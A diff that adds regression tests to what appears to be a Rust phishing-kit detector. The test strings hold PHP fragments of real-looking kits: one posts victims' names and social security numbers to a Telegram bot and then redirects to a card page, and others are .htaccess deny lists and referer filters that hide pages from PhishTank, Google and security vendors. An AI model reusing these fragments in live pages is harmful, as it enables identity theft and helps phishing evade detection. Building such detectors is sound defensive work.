@@ -1617,6 +1617,12 @@ mod tests {
             curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(['text' => $message])); curl_exec($ch);\n\
             header('Location: ../pass.php?email=' . urlencode($email)); exit;";
         assert_eq!(whys("sendmail.php", step), [Why::CredentialCollector]);
+        // Regression: fresh107's bank kit labels a social security number among names and
+        // sends it to Telegram before the kit's card step.
+        let ssn = "<?php $a1 = $_POST['name1']; $b5 = $_POST['ssn'];\n$data .= \"First Name : {$a1}\\n\"; $data .= \"SSN : {$b5}\\n\";\n\
+            $ch = curl_init('https://api.telegram.org/bot' . $token . '/sendMessage'); curl_setopt($ch, CURLOPT_POSTFIELDS, ['text' => $data]); curl_exec($ch);\n\
+            header('Location: ../../card.php');";
+        assert_eq!(whys("js-3.php", ssn), [Why::CredentialCollector]);
         // The contact form's thanks page, with or without a query of its own, is not a next step.
         let thanks = contact.replace("thanks.html", "thanks.php?sent=1");
         assert!(whys("contact.php", &thanks).is_empty());
@@ -1906,6 +1912,19 @@ mod tests {
         let vendors = "deny from virustotal.com\ndeny from avast.com\ndeny from phishtank.com\ndeny from 10.0.0.1\n";
         assert_eq!(whys(".htaccess", vendors), [Why::PhishingBotFilter]);
         assert!(whys(".htaccess", "deny from 10.0.0.1\ndeny from spam.example\ndeny from virustotal.com\n").is_empty());
+        // Regression: another kit's `.htaccess` denies Google's hosts and crawler networks line
+        // after line; one of Google's addresses in a spammers' list is a mistake, not a kit.
+        let google = "deny from google.com\ndeny from NS2.GOOGLE.COM\ndeny from 64.233.160.0/19\ndeny from 66.249.67\ndeny from 93.173\n";
+        assert_eq!(whys(".htaccess", google), [Why::PhishingBotFilter]);
+        assert!(whys(".htaccess", "deny from 10.0.0.1\ndeny from 209.85.32.23\ndeny from 203.0.113.9\n").is_empty());
+        // Regression: fresh107's Spox_dz filter sends visitors from PhishTank's reports away.
+        let referred = "<?php if (isset($_SERVER['HTTP_REFERER'])) { if (parse_url($_SERVER['HTTP_REFERER'], PHP_URL_HOST) == 'phishtank.com') {\n\
+            header('Location: http://www.cpanel.com'); die(); } }";
+        assert_eq!(whys("Dila_DZ.php", referred), [Why::PhishingBotFilter]);
+        // A page that links to PhishTank for its visitors turns no one away.
+        let linked =
+            "<?php $r = $_SERVER['HTTP_REFERER']; echo '<a href=\"https://phishtank.com/\">Report phishing</a>';";
+        assert!(whys("report.php", linked).is_empty(), "{:?}", whys("report.php", linked));
         // A filter that answers "404" to security services' hosts and goes on (no `exit`).
         let filter = "<?php $h = gethostbyaddr($_SERVER['REMOTE_ADDR']); $bad = array('phishtank', 'netcraft', 'kaspersky');\nforeach ($bad as $w) { if (substr_count($h, $w) > 0) { header('HTTP/1.0 404 Not Found'); } }";
         assert_eq!(whys("antibot.php", filter), [Why::PhishingBotFilter]);
